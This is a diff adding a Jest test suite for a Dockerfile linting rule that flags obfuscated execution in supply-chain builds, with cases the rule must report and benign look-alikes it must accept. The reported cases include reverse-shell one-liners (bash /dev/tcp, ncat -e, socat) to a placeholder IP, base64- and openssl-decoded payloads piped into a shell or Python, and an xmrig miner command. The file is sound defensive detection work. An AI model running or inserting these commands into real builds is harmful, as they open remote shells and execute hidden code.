@@ -1,0 +1,35 @@
+import { describe, it } from '@jest/globals';
+import rule from '../../../src/rules/supply-chain/obfuscated-exec.ts';
+import { expectMarks } from '../../support/example.ts';
+
+describe('obfuscated-exec', () => {
+  it.each([
+    ['base64 and sh', 'RUN «echo YQ== | base64 -d | sh»'],
+    ['more steps', 'RUN «echo YQ== | base64 --decode | gunzip | bash -s x»'],
+    ['bytes', 'RUN «xxd -r -p a | python3»'],
+    ['openssl', 'RUN «openssl enc -d -aes-256-cbc -k x -in a | bash»'],
+    ['eval', 'RUN «eval $(echo YQ== | base64 -d)»'],
+    ['a substitution', 'RUN «bash -c "$(base64 -d a)"» && «bash <(base64 -d a)»'],
+    ['python', `RUN «python3 -c 'import base64; exec(base64.b64decode("YQ=="))'»`],
+    ['a connection', 'RUN «bash -i >& /dev/tcp/198.51.100.7/443» 0>&1'],
+    ['netcat', 'RUN «ncat 198.51.100.7 443 -e /bin/bash»'],
+    ['socat', `RUN «socat exec:'bash -li',pty tcp:198.51.100.7:443»`],
+    ['a miner', 'RUN «./xmrig -o pool.example.com:3333 -u x» && «a -o stratum+tcp://pool.example.com:3333»'],
+  ])('reports %s', (_name, text) =>
+    expectMarks(rule, 'Dockerfile', `FROM debian:12\n${text.replace('» 0>&1', ' 0>&1»')}`),
+  );
+
+  it.each([
+    ['data', 'RUN echo YQ== | base64 -d > /a && base64 -d a | tar x && echo "$K" | base64 -d | gpg --import'],
+    ['encoding', 'RUN cat a | base64 | sh'],
+    ['a test of a port', 'RUN (echo > /dev/tcp/db/5432) && nc -z db 5432 && timeout 1 bash -c "</dev/tcp/db/5432"'],
+    ['this machine', 'RUN bash -i > /dev/tcp/localhost/80'],
+    ['decoding in a program', `RUN python3 -c 'import base64; print(base64.b64decode("YQ=="))'`],
+    [
+      'a miner that is built',
+      'RUN git clone https://a.example.com/xmrig && xmrig --version\nCMD ["xmrig", "-o", "pool"]',
+    ],
+    ['text', 'RUN echo "base64 -d | sh" && echo bash -i'],
+    ['a stage that is used by nothing', 'RUN echo YQ== | base64 -d | sh\nFROM scratch'],
+  ])('accepts %s', (_name, text) => expectMarks(rule, 'Dockerfile', `FROM debian:12\n${text}`));
+});
